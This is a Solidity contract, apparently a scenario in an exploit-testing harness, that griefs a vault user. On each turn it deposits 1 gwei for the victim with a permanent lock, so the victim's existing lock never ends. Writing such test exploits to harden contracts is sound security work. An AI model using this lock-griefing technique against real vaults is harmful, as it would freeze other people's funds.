// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title A gift that locks
/// @notice Deposits a gwei for the victim whenever its lock is about to end.
contract DustLock is Exploit {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number > 1) return;
        vault.syncAll();
        vault.deposit{value: 1 gwei}(others[0], 0, FOREVER);
    }
}
